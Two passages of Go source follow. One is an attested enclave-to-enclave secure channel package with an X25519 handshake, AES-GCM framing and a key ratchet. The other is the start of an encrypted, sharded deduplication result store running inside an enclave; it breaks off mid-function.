// Traffic keys are derived with an HMAC-SHA-256 extract-and-expand KDF
// and every frame is protected with AES-128-GCM under a per-direction
// counter nonce.
//
// Hot-path memory discipline (see DESIGN.md): each direction owns a
// scratch buffer that frames are sealed into / read into, so the
// steady-state Send/Recv pair performs zero heap allocations. The
// payload returned by Recv aliases the receive scratch and is valid
// only until the next Recv/RecvMessage on the channel; RecvMessage
// copies the retained byte fields (OwnMessage) so decoded messages are
// always safe to hold.

// ErrChannelAuth is returned when a channel frame fails authentication
// or arrives out of sequence. The error is terminal for the channel:
// the receive counter (and possibly the key ratchet) has already
// advanced, so subsequent frames cannot resynchronize — callers must
// Close the channel and re-handshake.
var ErrChannelAuth = errors.New("wire: channel authentication failed")

// ErrPeerRejected is returned by handshakes when the peer's attested
// measurement is not acceptable.
var ErrPeerRejected = errors.New("wire: peer enclave measurement rejected")

// rekeyInterval is the number of frames after which each direction's
// traffic key is ratcheted forward (key' = KDF(key)), limiting the
// blast radius of a key compromise to at most one interval of past
// traffic (forward secrecy within a session).
const rekeyInterval = 1 << 16

// trafficKeySize is the AES-128-GCM per-direction traffic key size.
const trafficKeySize = 16

// Channel is an established secure channel. Send and Recv are each
// internally serialised, so one goroutine may send while another
// receives, but the request/response pairing discipline is up to the
// caller.
type Channel struct {
	conn io.ReadWriteCloser
	peer enclave.Measurement

	// version is the negotiated protocol version (ProtocolV1 when the
	// peer predates the version byte in the hello).
	version int

	// features is the negotiated optional-capability set (the
	// intersection of both peers' offers; zero for peers predating the
	// feature byte, which keeps the v2 envelope format unchanged).
	features Feature

	// rekeyEvery is rekeyInterval, overridable in tests.
	rekeyEvery uint64

	// sendBuf is the frame assembly scratch (4-byte header + sealed
	// ciphertext, one contiguous write); msgBuf is the marshal scratch
	// for SendMessage/SendEnvelope; sendNonce is the counter nonce
	// scratch (a stack array would escape through the cipher.AEAD
	// interface and cost an allocation per frame). All are guarded by
	// sendMu and never escape the channel.
	sendMu    sync.Mutex
	send      cipher.AEAD
	sendKey   []byte
	sendSeq   uint64
	sendBuf   []byte
	msgBuf    []byte
	sendNonce [12]byte

	// recvBuf is the frame read + in-place decrypt scratch, guarded by
	// recvMu. Payloads returned by Recv alias it.
	recvMu    sync.Mutex
	recv      cipher.AEAD
	recvKey   []byte
	recvSeq   uint64
	recvBuf   []byte
	recvNonce [12]byte

	// Wire-level byte accounting (frame payloads plus the 4-byte
	// length prefix), for telemetry. Frames that fail authentication
	// are accounted separately: bytesIn counts only authenticated
	// traffic, so hit-path byte telemetry is never inflated by an
	// active attacker's garbage.
	bytesOut      atomic.Int64
	bytesIn       atomic.Int64
	authFails     atomic.Int64
	bytesAuthFail atomic.Int64
}

// Peer returns the attested measurement of the remote enclave.
func (c *Channel) Peer() enclave.Measurement { return c.peer }

// Version returns the negotiated protocol version: ProtocolV2 when both
// peers support the multiplexed protocol, ProtocolV1 otherwise.
func (c *Channel) Version() int { return c.version }

// Features returns the negotiated optional-capability set.
func (c *Channel) Features() Feature { return c.features }

// TraceEnabled reports whether both peers negotiated the trace-context
// envelope field. When false, envelopes use the plain v2 layout and
// trace contexts given to SendEnvelopeTrace are silently dropped.
func (c *Channel) TraceEnabled() bool { return c.features&FeatureTrace != 0 }

// BytesSent reports the total bytes written to the transport by Send,
// including framing overhead but excluding the handshake.
func (c *Channel) BytesSent() int64 { return c.bytesOut.Load() }

// BytesReceived reports the total bytes consumed from the transport by
// Recv that passed authentication, including framing overhead but
// excluding the handshake. Bytes of frames that failed authentication
// are reported by AuthFailBytes instead.
func (c *Channel) BytesReceived() int64 { return c.bytesIn.Load() }

// AuthFailures reports the number of received frames that failed
// AEAD authentication.
func (c *Channel) AuthFailures() int64 { return c.authFails.Load() }

// AuthFailBytes reports the total bytes (payload plus framing) of
// received frames that failed authentication.
func (c *Channel) AuthFailBytes() int64 { return c.bytesAuthFail.Load() }

// Close closes the underlying transport.
func (c *Channel) Close() error { return c.conn.Close() }

// deadliner is the deadline-control subset of net.Conn. TCP
// connections and net.Pipe both implement it; in-process loopback
// transports typically do not.
type deadliner interface {
	SetReadDeadline(t time.Time) error
	SetWriteDeadline(t time.Time) error
}

// SetDeadline bounds all subsequent Send and Recv calls on the channel,
// reporting whether both directions accepted the deadline. A zero time
// clears the deadline. An expired deadline surfaces as a timeout error
// (os.ErrDeadlineExceeded) from Send/Recv; the channel's cipher state
// is then indeterminate mid-frame, so callers should Close and
// re-handshake rather than continue.
//
// The two directions are installed atomically from the caller's point
// of view: if the write side rejects the deadline after the read side
// accepted it, the read deadline is cleared again before returning
// false, so a false return never leaves an asymmetric deadline armed.
func (c *Channel) SetDeadline(t time.Time) bool {
	d, ok := c.conn.(deadliner)
	if !ok {
		return false
	}
	if d.SetReadDeadline(t) != nil {
		return false
	}
	if d.SetWriteDeadline(t) != nil {
		// Unwind the half that stuck rather than leaving reads bounded
		// and writes unbounded behind a false return.
		_ = d.SetReadDeadline(time.Time{})
		return false
	}
	return true
}

// Send encrypts and writes one message frame, ratcheting the send key
// every rekeyInterval frames. The payload is borrowed only for the
// duration of the call.
func (c *Channel) Send(payload []byte) error {
	c.sendMu.Lock()
	defer c.sendMu.Unlock()
	return c.sendLocked(payload)
}

// SendMessage marshals and sends a protocol message, reusing the
// channel's marshal scratch so the steady state allocates nothing.
func (c *Channel) SendMessage(m Message) error {
	c.sendMu.Lock()
	defer c.sendMu.Unlock()
	c.msgBuf = AppendMarshal(c.msgBuf[:0], m)
	err := c.sendLocked(c.msgBuf)
	c.msgBuf = trimScratch(c.msgBuf)
	return err
}

// SendEnvelope marshals and sends a protocol-v2 envelope (request ID +
// message) in one sealed frame, reusing the channel's marshal scratch.
// It is the allocation-free equivalent of Send(MarshalEnvelope(id, m)).
// On a trace-enabled channel the envelope carries an empty trace
// context (one extra flags byte, still allocation-free).
func (c *Channel) SendEnvelope(id uint64, m Message) error {
	return c.SendEnvelopeTrace(id, TraceContext{}, m)
}

// SendEnvelopeTrace is SendEnvelope carrying a distributed-trace
// context. The context is encoded only when it is Valid and the
// channel negotiated FeatureTrace; otherwise it is dropped and the
// envelope is the plain v2 form the peer expects. Unsampled (zero)
// contexts stay on the allocation-free path.
func (c *Channel) SendEnvelopeTrace(id uint64, tc TraceContext, m Message) error {
	c.sendMu.Lock()
	defer c.sendMu.Unlock()
	if c.features&FeatureTrace != 0 {
		c.msgBuf = AppendEnvelopeTrace(c.msgBuf[:0], id, tc, m)
	} else {
		c.msgBuf = AppendEnvelope(c.msgBuf[:0], id, m)
	}
	err := c.sendLocked(c.msgBuf)
	c.msgBuf = trimScratch(c.msgBuf)
	return err
}

// ParseEnvelope decodes an envelope payload received on this channel,
// using the traced layout iff the channel negotiated FeatureTrace. The
// returned message aliases the payload exactly like Unmarshal.
func (c *Channel) ParseEnvelope(payload []byte) (uint64, TraceContext, Message, error) {
	if c.features&FeatureTrace != 0 {
		return UnmarshalEnvelopeTrace(payload)
	}
	id, m, err := UnmarshalEnvelope(payload)
	return id, TraceContext{}, m, err
}

// sendLocked seals payload into the channel's frame scratch — length
// header first, ciphertext appended directly after it — and writes the
// frame with a single conn.Write. Sealing into the combined buffer
// costs no extra copy (the AEAD must write its output somewhere) and
// beats a vectored write: the transport sees one contiguous buffer.
// Caller holds sendMu.
func (c *Channel) sendLocked(payload []byte) error {
	if len(payload)+gcmOverhead > MaxFrameSize {
		return ErrFrameTooLarge
	}
	if c.sendSeq > 0 && c.sendSeq%c.rekeyEvery == 0 {
		if err := ratchet(&c.sendKey, &c.send); err != nil {
			return err
		}
	}
	binary.BigEndian.PutUint64(c.sendNonce[4:], c.sendSeq)
	c.sendSeq++
	buf := append(c.sendBuf[:0], 0, 0, 0, 0)
	buf = c.send.Seal(buf, c.sendNonce[:], payload, nil)
	binary.BigEndian.PutUint32(buf[:frameHeaderLen], uint32(len(buf)-frameHeaderLen))
	c.sendBuf = trimScratch(buf)
	if _, err := c.conn.Write(buf); err != nil {
		return fmt.Errorf("write frame: %w", err)
	}
	c.bytesOut.Add(int64(len(buf)))
	return nil
}

// gcmOverhead is the AES-GCM tag overhead added by sendLocked.
const gcmOverhead = 16

// Recv reads and decrypts one message frame, mirroring the sender's
// key ratchet. The returned payload aliases the channel's receive
// scratch: it is valid only until the next Recv/RecvMessage, and
// callers that retain it (or slices of it) past that window must copy
// first. The frame is decrypted in place, so the steady state reads,
// authenticates and decrypts with zero heap allocations.
func (c *Channel) Recv() ([]byte, error) {
	c.recvMu.Lock()
	defer c.recvMu.Unlock()
	frame, err := ReadFrameInto(c.conn, c.recvBuf[:0])
	if err != nil {
		return nil, err
	}
	c.recvBuf = trimScratch(frame)
	if c.recvSeq > 0 && c.recvSeq%c.rekeyEvery == 0 {
		if err := ratchet(&c.recvKey, &c.recv); err != nil {
			return nil, err
		}
	}
	binary.BigEndian.PutUint64(c.recvNonce[4:], c.recvSeq)
	c.recvSeq++
	payload, err := c.recv.Open(frame[:0], c.recvNonce[:], frame, nil)
	if err != nil {
		// The sequence number has advanced and cannot resynchronize
		// (the error is terminal), but telemetry stays honest: these
		// bytes were never authenticated traffic.
		c.authFails.Add(1)
		c.bytesAuthFail.Add(int64(len(frame)) + frameHeaderLen)
		return nil, ErrChannelAuth
	}
	c.bytesIn.Add(int64(len(frame)) + frameHeaderLen)
	return payload, nil
}

// RecvMessage receives and unmarshals a protocol message. Unlike the
// raw Recv, the returned message owns all of its memory (retained byte
// fields are copied out of the receive scratch), so it may be held
// across subsequent Recv calls.
func (c *Channel) RecvMessage() (Message, error) {
	payload, err := c.Recv()
	if err != nil {
		return nil, err
	}
	m, err := Unmarshal(payload)
	if err != nil {
		return nil, err
	}
	return OwnMessage(m), nil
}

// trimScratch retains a grown scratch buffer for reuse, dropping it
// once a single oversized frame would otherwise pin more than
// maxScratchRetain per direction forever.
func trimScratch(buf []byte) []byte {
	if cap(buf) > maxScratchRetain {
		return nil
	}
	return buf[:0]
}

// ratchet advances a direction key: key' = KDF(key), zeroizing the old
// key so previously recorded traffic cannot be decrypted with any
// state still resident in memory.
func ratchet(key *[]byte, aead *cipher.AEAD) error {
	next := hkdfKey(*key, "speed/ratchet")
	a, err := newAEAD(next)
	if err != nil {
		mle.Zeroize(next)
		return err
	}
	mle.Zeroize(*key)
	*key = next
	*aead = a
	return nil
}

// Trust is a remote-attestation trust set: the platform attestation
// keys (PKIX DER) whose quotes are accepted. A nil *Trust restricts
// the handshake to local (intra-platform) attestation.
type Trust struct {
	// PlatformKeys are trusted platform attestation public keys.
	PlatformKeys [][]byte
}

// hello is the handshake message: a local attestation report, always,
// plus a remote attestation quote over the same key-exchange data so
// cross-platform peers can verify.
type hello struct {
	report enclave.Report
	quote  enclave.Quote
}

func makeHello(e *enclave.Enclave, target enclave.Measurement, data []byte) (hello, error) {
	h := hello{report: e.Report(target, data)}
	q, err := e.Quote(data)
	if err != nil {
		return hello{}, err
	}
	h.quote = q
	return h, nil
}

func (h hello) marshal() []byte {
	report := h.report.Marshal()
	quote := h.quote.Marshal()
	buf := make([]byte, 0, 8+len(report)+len(quote))
	buf = binary.BigEndian.AppendUint32(buf, uint32(len(report)))
	buf = append(buf, report...)
	buf = binary.BigEndian.AppendUint32(buf, uint32(len(quote)))
	buf = append(buf, quote...)
	return buf
}

func parseHello(b []byte) (hello, error) {
	var h hello
	readBytes := func() ([]byte, error) {
		if len(b) < 4 {
			return nil, ErrMalformed
		}
		n := binary.BigEndian.Uint32(b)
		b = b[4:]
		if uint64(n) > uint64(len(b)) {
			return nil, ErrMalformed
		}
		v := b[:n:n]
		b = b[n:]
		return v, nil
	}
	reportB, err := readBytes()
	if err != nil {
		return h, err
	}
	if h.report, err = enclave.UnmarshalReport(reportB); err != nil {
		return h, err
	}
	quoteB, err := readBytes()
	if err != nil {
		return h, err
	}
	if h.quote, err = enclave.UnmarshalQuote(quoteB); err != nil {
		return h, err
	}
	if len(b) != 0 {
		return h, ErrMalformed
	}
	return h, nil
}

// verifyHello authenticates a peer hello: local attestation first
// (same platform), falling back to a remote attestation quote when a
// trust set is configured. It returns the attested measurement and the
// peer's key-exchange data.
func verifyHello(e *enclave.Enclave, h hello, trust *Trust) (enclave.Measurement, [64]byte, error) {
	if err := e.VerifyReport(h.report); err == nil {
		return h.report.Measurement, h.report.Data, nil
	}
	if trust != nil {
		if err := enclave.VerifyQuote(h.quote, trust.PlatformKeys); err == nil {
			return h.quote.Measurement, h.quote.Data, nil
		}
	}
	return enclave.Measurement{}, [64]byte{}, fmt.Errorf("wire: peer attestation: %w", enclave.ErrAttestation)
}

// readHelloFrame reads one handshake frame under the pre-attestation
// size cap: the peer has not proved anything yet, so a length prefix
// beyond maxHelloSize is rejected before a single byte of payload is
// read or buffered.
func readHelloFrame(conn io.Reader) ([]byte, error) {
	return readFrameLimit(conn, maxHelloSize, nil)
}

// ClientHandshake establishes a channel from the enclave e to a peer
// on the same platform whose measurement must equal peerMeasurement.
// The conn must already connect the two endpoints (TCP or loopback).
func ClientHandshake(conn io.ReadWriteCloser, e *enclave.Enclave, peerMeasurement enclave.Measurement) (*Channel, error) {
	return ClientHandshakeTrust(conn, e, peerMeasurement, nil)
}

// ClientHandshakeTrust is ClientHandshake that additionally accepts a
// remote server on a platform in the trust set (remote attestation).
func ClientHandshakeTrust(conn io.ReadWriteCloser, e *enclave.Enclave, peerMeasurement enclave.Measurement, trust *Trust) (*Channel, error) {
	return ClientHandshakeVersion(conn, e, peerMeasurement, trust, MaxProtocol)
}

// ClientHandshakeVersion is ClientHandshakeTrust with an explicit
// highest offered protocol version, used to pin a client to ProtocolV1
// for compatibility testing or conservative rollouts.
func ClientHandshakeVersion(conn io.ReadWriteCloser, e *enclave.Enclave, peerMeasurement enclave.Measurement, trust *Trust, maxVersion int) (*Channel, error) {
	return ClientHandshakeOptions(conn, e, peerMeasurement, trust, maxVersion, DefaultFeatures)
}

// ClientHandshakeOptions is ClientHandshakeVersion with an explicit
// optional-feature offer (zero offers nothing, reproducing a peer that
// predates the feature byte).
func ClientHandshakeOptions(conn io.ReadWriteCloser, e *enclave.Enclave, peerMeasurement enclave.Measurement, trust *Trust, maxVersion int, features Feature) (*Channel, error) {
	maxVersion = clampVersion(maxVersion)
	priv, err := ecdh.X25519().GenerateKey(rand.Reader)
	if err != nil {
		return nil, fmt.Errorf("wire: keygen: %w", err)
	}
	clientHello, err := makeHello(e, peerMeasurement, helloData(priv, maxVersion, features))
	if err != nil {
		return nil, err
	}
	if err := WriteFrame(conn, clientHello.marshal()); err != nil {
		return nil, fmt.Errorf("wire: send client hello: %w", err)
	}

	frame, err := readHelloFrame(conn)
	if err != nil {
		return nil, fmt.Errorf("wire: read server hello: %w", err)
	}
	serverHello, err := parseHello(frame)
	if err != nil {
		return nil, fmt.Errorf("wire: parse server hello: %w", err)
	}
	peerMeas, peerData, err := verifyHello(e, serverHello, trust)
	if err != nil {
		return nil, err
	}
	if peerMeas != peerMeasurement {
		return nil, ErrPeerRejected
	}
	version := negotiate(maxVersion, peerData)
	return deriveChannel(conn, priv, peerMeas, peerData, true, version, negotiateFeatures(features, peerData, version))
}

// ServerHandshake accepts a channel at the enclave e from a client on
// the same platform. accept decides whether a client measurement is
// allowed; nil accepts any client that passes attestation.
func ServerHandshake(conn io.ReadWriteCloser, e *enclave.Enclave, accept func(enclave.Measurement) bool) (*Channel, error) {
	return ServerHandshakeTrust(conn, e, accept, nil)
}

// ServerHandshakeTrust is ServerHandshake that additionally accepts
// remote clients on platforms in the trust set (remote attestation).
func ServerHandshakeTrust(conn io.ReadWriteCloser, e *enclave.Enclave, accept func(enclave.Measurement) bool, trust *Trust) (*Channel, error) {
	return ServerHandshakeVersion(conn, e, accept, trust, MaxProtocol)
}

// ServerHandshakeVersion is ServerHandshakeTrust with an explicit
// highest offered protocol version, used to pin a server to ProtocolV1
// for compatibility testing or conservative rollouts.
func ServerHandshakeVersion(conn io.ReadWriteCloser, e *enclave.Enclave, accept func(enclave.Measurement) bool, trust *Trust, maxVersion int) (*Channel, error) {
	return ServerHandshakeOptions(conn, e, accept, trust, maxVersion, DefaultFeatures)
}

// ServerHandshakeOptions is ServerHandshakeVersion with an explicit
// optional-feature offer (zero offers nothing, reproducing a peer that
// predates the feature byte).
func ServerHandshakeOptions(conn io.ReadWriteCloser, e *enclave.Enclave, accept func(enclave.Measurement) bool, trust *Trust, maxVersion int, features Feature) (*Channel, error) {
	maxVersion = clampVersion(maxVersion)
	frame, err := readHelloFrame(conn)
	if err != nil {
		return nil, fmt.Errorf("wire: read client hello: %w", err)
	}
	clientHello, err := parseHello(frame)
	if err != nil {
		return nil, fmt.Errorf("wire: parse client hello: %w", err)
	}
	clientMeas, clientData, err := verifyHello(e, clientHello, trust)
	if err != nil {
		return nil, err
	}
	if accept != nil && !accept(clientMeas) {
		return nil, ErrPeerRejected
	}

	// Negotiate down to what both sides speak; echo the agreed version
	// and feature set in the server hello so the client adopts the same
	// values.
	version := negotiate(maxVersion, clientData)
	agreed := negotiateFeatures(features, clientData, version)

	priv, err := ecdh.X25519().GenerateKey(rand.Reader)
	if err != nil {
		return nil, fmt.Errorf("wire: keygen: %w", err)
	}
	serverHello, err := makeHello(e, clientMeas, helloData(priv, version, agreed))
	if err != nil {
		return nil, err
	}
	if err := WriteFrame(conn, serverHello.marshal()); err != nil {
		return nil, fmt.Errorf("wire: send server hello: %w", err)
	}
	return deriveChannel(conn, priv, clientMeas, clientData, false, version, agreed)
}

// clampVersion bounds a caller-requested version offer to what this
// build implements.
func clampVersion(v int) int {
	if v < ProtocolV1 {
		return ProtocolV1
	}
	if v > MaxProtocol {
		return MaxProtocol
	}
	return v
}

// helloData builds the hello's key-exchange data: the X25519 public key
// in bytes 0-31, the offered protocol version in byte 32 and the
// offered optional-feature bits in byte 33. All are covered by the
// attestation report MAC, so neither the version nor the feature set
// can be stripped by a network adversary.
func helloData(priv *ecdh.PrivateKey, version int, features Feature) []byte {
	data := make([]byte, 34)
	copy(data, priv.PublicKey().Bytes())
	data[32] = byte(version)
	data[33] = byte(features)
	return data
}

// negotiate picks the protocol version for a channel: the lower of our
// offer and the peer's advertised version, where a zero byte (a peer
// predating negotiation) reads as ProtocolV1.
func negotiate(ours int, peerData [64]byte) int {
	peer := int(peerData[32])
	if peer < ProtocolV1 {
		peer = ProtocolV1
	}
	if peer < ours {
		return peer
	}
	return ours
}

// negotiateFeatures intersects our feature offer with the peer's
// (byte 33 of the key-exchange data; zero for peers predating it).
// Features only exist on the enveloped v2 protocol, so a v1 channel
// never carries any.
func negotiateFeatures(ours Feature, peerData [64]byte, version int) Feature {
	if version < ProtocolV2 {
		return 0
	}
	return ours & Feature(peerData[33])
}

func deriveChannel(conn io.ReadWriteCloser, priv *ecdh.PrivateKey, peerMeas enclave.Measurement, peerData [64]byte, isClient bool, version int, features Feature) (*Channel, error) {
	peerPub, err := ecdh.X25519().NewPublicKey(peerData[:32])
	if err != nil {
		return nil, fmt.Errorf("wire: peer public key: %w", err)
	}
	shared, err := priv.ECDH(peerPub)
	if err != nil {
		return nil, fmt.Errorf("wire: ecdh: %w", err)
	}
	defer mle.Zeroize(shared)
	c2sKey := hkdfKey(shared, "speed/c2s")
	s2cKey := hkdfKey(shared, "speed/s2c")
	c2s, err := newAEAD(c2sKey)
	if err != nil {
		mle.Zeroize(c2sKey)
		mle.Zeroize(s2cKey)
		return nil, err
	}
	s2c, err := newAEAD(s2cKey)
	if err != nil {
		mle.Zeroize(c2sKey)
		mle.Zeroize(s2cKey)
		return nil, err
	}
	ch := &Channel{conn: conn, peer: peerMeas, rekeyEvery: rekeyInterval, version: version, features: features}
	if isClient {
		ch.send, ch.recv = c2s, s2c
		ch.sendKey, ch.recvKey = c2sKey, s2cKey
	} else {
		ch.send, ch.recv = s2c, c2s
		ch.sendKey, ch.recvKey = s2cKey, c2sKey
	}
	return ch, nil
}

// hkdfKey derives one trafficKeySize traffic key with a minimal
// HMAC-SHA-256 extract-and-expand (RFC 5869, zero salt, single-block
// expand). The full 32-byte expand block lives only inside this call
// and is zeroized before returning: truncating the block in the caller
// (key := hkdf(...)[:16]) would leave bytes 16–31 of derived key
// material alive behind a Zeroize of the shorter slice, which is
// exactly the pattern the speedlint keyzero analyzer rejects.
func hkdfKey(secret []byte, info string) []byte {
	extract := hmac.New(sha256.New, make([]byte, 32))
	extract.Write(secret)
	prk := extract.Sum(nil)
	defer mle.Zeroize(prk)

	expand := hmac.New(sha256.New, prk)
	expand.Write([]byte(info))
	expand.Write([]byte{1})
	var block [sha256.Size]byte
	expand.Sum(block[:0])
	defer mle.Zeroize(block[:])

	key := make([]byte, trafficKeySize)
	copy(key, block[:])
	return key
}

func newAEAD(key []byte) (cipher.AEAD, error) {
	block, err := aes.NewCipher(key)
	if err != nil {
		return nil, fmt.Errorf("wire: cipher: %w", err)
	}
	return cipher.NewGCM(block)
}
