package store

import (
	"container/list"
	"crypto/subtle"
	"encoding/binary"
	"errors"
	"fmt"
	"math/bits"
	"sort"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"speed/internal/enclave"
	"speed/internal/mle"
	"speed/internal/telemetry"
)

// entryOverhead approximates the in-enclave footprint of one dictionary
// entry beyond its variable-length fields: tag key, blob pointer,
// counters and map bucket overhead. It is charged against the store
// enclave's EPC so that large dictionaries produce realistic paging
// pressure.
const entryOverhead = 96

// defaultShards is the dictionary shard count when Config.Shards is
// zero. Power of two, so shard selection is a mask over the tag bytes.
const defaultShards = 8

// maxShards bounds Config.Shards; beyond this the per-shard fixed
// overhead outweighs any contention win.
const maxShards = 256

var (
	// ErrQuota is returned when a PUT is rejected by the quota
	// mechanism.
	ErrQuota = errors.New("store: quota exceeded")
	// ErrClosed is returned after Close.
	ErrClosed = errors.New("store: closed")
)

// Config configures a Store.
type Config struct {
	// Enclave hosts the metadata dictionary. Required.
	Enclave *enclave.Enclave
	// Blobs holds ciphertexts outside the enclave. Defaults to an
	// in-memory store.
	Blobs BlobStore
	// Shards is the number of lock-striped dictionary shards; rounded
	// up to a power of two, defaulting to 8. Tags are uniformly
	// distributed hashes, so striping spreads GET/PUT lock contention
	// evenly and lets concurrent requests proceed on different cores.
	Shards int
	// MaxEntries caps the dictionary size; 0 means unlimited. When
	// exceeded, least-recently-used entries are evicted. The cap is
	// global: the eviction victim is the least recently used entry
	// across all shards, not a per-shard quota.
	MaxEntries int
	// MaxBlobBytes caps total ciphertext bytes; 0 means unlimited.
	MaxBlobBytes int64
	// Quota bounds per-application usage.
	Quota QuotaConfig
	// Auth, when non-nil, gates every operation by the caller's
	// attested measurement (controlled deduplication, Section III-D).
	Auth Authorizer
	// Oblivious makes dictionary lookups access-pattern oblivious: a
	// GET touches every entry in every shard with constant-time tag
	// comparison and performs no LRU bookkeeping, so an adversary
	// observing enclave memory accesses cannot tell which entry (if
	// any) matched — or which shard held it. This trades throughput for
	// side-channel resistance (the security/performance balance the
	// paper defers to future work, Section III-D).
	Oblivious bool
	// TTL expires entries that have not been stored or hit within the
	// given duration; 0 disables expiry. Expired entries are collected
	// lazily on access and by ExpireNow.
	TTL time.Duration
	// Telemetry, when non-nil, registers the store's counters (gets,
	// hits, puts, denials, evictions — backed by the Stats snapshot),
	// occupancy gauges (total and per shard), and per-operation
	// service-latency histograms speed_store_op_seconds{op="get"|"put"}.
	// Nil disables.
	Telemetry *telemetry.Registry
	// Now is the clock used by the quota mechanism; nil means
	// time.Now. Injectable for tests.
	Now func() time.Time
}

// Stats is a snapshot of store activity. The counters are summed over
// all shards while every shard lock is held, so the snapshot is
// internally consistent (e.g. Hits never exceeds Gets).
type Stats struct {
	Gets         int64
	Hits         int64
	Puts         int64
	PutDupes     int64
	PutDenied    int64
	Unauthorized int64
	Evictions    int64
	Expired      int64
	Entries      int
	BlobBytes    int64
}

// add folds another snapshot's counters into s.
func (s *Stats) add(o Stats) {
	s.Gets += o.Gets
	s.Hits += o.Hits
	s.Puts += o.Puts
	s.PutDupes += o.PutDupes
	s.PutDenied += o.PutDenied
	s.Unauthorized += o.Unauthorized
	s.Evictions += o.Evictions
	s.Expired += o.Expired
}

// entry is the small in-enclave dictionary record: the challenge r, the
// wrapped key [k], and a pointer to the out-of-enclave ciphertext
// (Section IV-B: "the dictionary entry is designed to be small").
type entry struct {
	challenge  []byte
	wrappedKey []byte
	blobID     BlobID
	blobSize   int64
	owner      enclave.Measurement
	hits       int64
	lastTouch  time.Time
	lruElem    *list.Element
}

func (e *entry) enclaveBytes() int64 {
	return entryOverhead + int64(len(e.challenge)+len(e.wrappedKey))
}

// shard is one lock stripe of the dictionary: its own map, LRU list and
// activity counters, so GETs and PUTs for different tags proceed in
// parallel on different cores.
type shard struct {
	mu    sync.Mutex
	dict  map[mle.Tag]*entry
	lru   *list.List // front = most recent; values are mle.Tag
	stats Stats      // per-shard counters; Entries/BlobBytes unused
}

// Store is the encrypted ResultStore. All methods are safe for
// concurrent use; operations on different tags contend only on their
// shard.
type Store struct {
	cfg       Config
	shards    []*shard
	shardMask uint32

	// Global occupancy accounting, shared by all shards: the dictionary
	// entry count and the resident ciphertext bytes, against which
	// MaxEntries/MaxBlobBytes are enforced.
	entries   atomic.Int64
	blobTotal atomic.Int64

	closed atomic.Bool

	quota *quotas

	// Per-op service-latency histograms; nil (and skipped) when
	// Config.Telemetry was nil.
	getSeconds *telemetry.Histogram
	putSeconds *telemetry.Histogram
}

// New constructs a Store.
func New(cfg Config) (*Store, error) {
	if cfg.Enclave == nil {
		return nil, errors.New("store: Config.Enclave is required")
	}
	if cfg.Blobs == nil {
		cfg.Blobs = NewMemBlobStore()
	}
	if cfg.Now == nil {
		cfg.Now = time.Now
	}
	n := cfg.Shards
	if n <= 0 {
		n = defaultShards
	}
	if n > maxShards {
		n = maxShards
	}
	if n&(n-1) != 0 {
		n = 1 << bits.Len(uint(n)) // round up to a power of two
	}
	s := &Store{
		cfg:       cfg,
		shards:    make([]*shard, n),
		shardMask: uint32(n - 1),
		quota:     newQuotas(cfg.Quota, cfg.Now),
	}
	for i := range s.shards {
		s.shards[i] = &shard{dict: make(map[mle.Tag]*entry), lru: list.New()}
	}
	s.registerTelemetry(cfg.Telemetry)
	return s, nil
}

// shardFor selects a tag's home shard. Tags are outputs of a
// cryptographic hash, so any fixed window of bits is uniform.
func (s *Store) shardFor(tag mle.Tag) *shard {
	return s.shards[binary.BigEndian.Uint32(tag[:4])&s.shardMask]
}

// ShardCount reports the number of dictionary shards.
func (s *Store) ShardCount() int { return len(s.shards) }

// registerTelemetry wires the store into reg: latency histograms are
// real metrics observed inline, while the counters and gauges read the
// Stats snapshot on demand so there is a single source of truth (and
// several stores sharing one registry sum, see telemetry.CounterFunc).
func (s *Store) registerTelemetry(reg *telemetry.Registry) {
	if reg == nil {
		return
	}
	s.getSeconds = reg.NewHistogram("speed_store_op_seconds",
		"store operation service latency", telemetry.L("op", "get"))
	s.putSeconds = reg.NewHistogram("speed_store_op_seconds",
		"store operation service latency", telemetry.L("op", "put"))
	for _, c := range []struct {
		name, help string
		field      func(Stats) int64
	}{
		{"speed_store_gets_total", "GET requests", func(st Stats) int64 { return st.Gets }},
		{"speed_store_hits_total", "GET requests answered positively", func(st Stats) int64 { return st.Hits }},
		{"speed_store_puts_total", "accepted fresh uploads", func(st Stats) int64 { return st.Puts }},
		{"speed_store_put_dupes_total", "uploads for already-stored tags", func(st Stats) int64 { return st.PutDupes }},
		{"speed_store_put_denied_total", "uploads rejected by quota", func(st Stats) int64 { return st.PutDenied }},
		{"speed_store_unauthorized_total", "operations denied by controlled deduplication", func(st Stats) int64 { return st.Unauthorized }},
		{"speed_store_evictions_total", "entries evicted by LRU pressure", func(st Stats) int64 { return st.Evictions }},
		{"speed_store_expired_total", "entries collected by TTL expiry", func(st Stats) int64 { return st.Expired }},
	} {
		field := c.field
		reg.NewCounterFunc(c.name, c.help, func() int64 { return field(s.Stats()) })
	}
	reg.NewGaugeFunc("speed_store_entries", "current dictionary size",
		func() float64 { return float64(s.Len()) })
	reg.NewGaugeFunc("speed_store_blob_bytes", "resident ciphertext bytes outside the enclave",
		func() float64 { return float64(s.cfg.Blobs.Bytes()) })
	for i := range s.shards {
		sh := s.shards[i]
		reg.NewGaugeFunc("speed_store_shard_entries", "dictionary entries per shard",
			func() float64 {
				sh.mu.Lock()
				n := len(sh.dict)
				sh.mu.Unlock()
				return float64(n)
			}, telemetry.L("shard", strconv.Itoa(i)))
	}
}

// Enclave returns the enclave hosting the metadata dictionary.
func (s *Store) Enclave() *enclave.Enclave { return s.cfg.Enclave }

// GetAs is Get with the caller's attested identity, consulted by the
// store's Authorizer when one is configured.
func (s *Store) GetAs(app enclave.Measurement, tag mle.Tag) (mle.Sealed, bool, error) {
	if s.cfg.Auth != nil {
		if err := s.cfg.Auth.Authorize(app, tag, PermGet); err != nil {
			sh := s.shardFor(tag)
			sh.mu.Lock()
			sh.stats.Unauthorized++
			sh.mu.Unlock()
			return mle.Sealed{}, false, err
		}
	}
	return s.Get(tag)
}

// Get looks up the computation tag, returning the (r, [k], [res])
// triple when found. The dictionary access happens inside the store
// enclave (one ECALL); the ciphertext is fetched from untrusted storage
// outside.
func (s *Store) Get(tag mle.Tag) (mle.Sealed, bool, error) {
	if s.getSeconds != nil {
		start := time.Now()
		defer func() { s.getSeconds.Observe(time.Since(start)) }()
	}
	var (
		found   bool
		expired bool
		blobID  BlobID
		sealed  mle.Sealed
	)
	err := s.cfg.Enclave.ECall(func() error {
		if s.closed.Load() {
			return ErrClosed
		}
		if s.cfg.Oblivious {
			// Scan every shard with identical per-entry work so the
			// access pattern reveals neither the entry nor the shard.
			home := s.shardFor(tag)
			for _, sh := range s.shards {
				sh.mu.Lock()
				e := obliviousLookupLocked(sh, tag)
				if sh == home {
					sh.stats.Gets++
					if e != nil {
